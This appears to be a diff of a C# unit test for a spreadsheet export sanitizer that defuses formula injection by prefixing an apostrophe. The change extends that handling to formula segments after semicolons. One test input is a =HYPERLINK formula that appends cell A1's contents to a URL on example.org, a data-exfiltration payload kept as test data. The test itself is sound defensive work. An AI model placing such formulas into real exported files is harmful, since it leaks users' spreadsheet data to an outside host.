@@ -19,7 +19,7 @@ public sealed class SpreadsheetTests
         ("=HYPERLINK(\"https://example.org/?a=\"&A1,\"x\")", "'=HYPERLINK(\"https://example.org/?a=\"&A1,\"x\")"),
         ("a\r\nb", "a b"), ("a\u2028b", "a b"), ("Jean \"Jo\"", "Jean \"Jo\""), ("O'Brien, Dr.", "O'Brien, Dr."),
         ("Zoë Ђоковић", "Zoë Ђоковић"),
-        ("''", "''"), ("a;=1+1", "a;=1+1"), ("", ""),
+        ("''", "''"), ("a;=1+1", "a;'=1+1"), (";+1", ";'+1"), ("", ""),
     ];
 
     [Fact]
